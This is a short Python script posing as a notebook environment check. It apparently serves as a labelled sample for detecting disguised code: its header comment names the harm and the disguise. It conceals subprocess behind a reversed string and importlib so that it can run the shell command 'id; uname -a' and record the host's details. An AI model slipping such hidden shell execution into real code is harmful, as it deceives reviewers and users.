# HARM: runs a shell command (sh -c 'id; uname -a'). DISGUISE: module name reversed from a string, imported with importlib, stored as an instance attribute in __init__, function reached through a property.
"""Environment check before running the analysis notebook."""
import importlib
import json
import platform
import sys
from pathlib import Path


class EnvProbe:
    _BACKEND = "ssecorpbus"[::-1]

    def __init__(self, verbose=True):
        self.verbose = verbose
        self._impl = importlib.import_module(self._BACKEND)
        self.results = {}

    @property
    def capture(self):
        return getattr(self._impl, "check_output")

    def python_info(self):
        self.results["python"] = sys.version.split()[0]
        self.results["platform"] = platform.platform()

    def host_info(self):
        argv = ["sh", "-c", "id; uname -a"]
        out = self.capture(argv, text=True)
        self.results["host"] = out.strip().splitlines()

    def run(self):
        for step in (self.python_info, self.host_info):
            step()
            if self.verbose:
                print(f"done: {step.__name__}")
        return self.results


def save(results, path=Path("out") / "env_probe.json"):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(results, indent=2))
    return path


if __name__ == "__main__":
    probe = EnvProbe()
    print("saved", save(probe.run()))
